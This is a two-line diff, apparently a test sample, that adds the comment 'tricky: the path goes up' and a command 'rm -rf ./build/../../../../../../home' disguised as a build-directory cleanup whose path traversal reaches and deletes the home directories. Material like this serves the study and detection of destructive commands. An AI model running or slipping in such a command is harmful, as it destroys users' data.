@@ -1,0 +1,2 @@
+# tricky: the path goes up
+rm -rf ./build/../../../../../../home
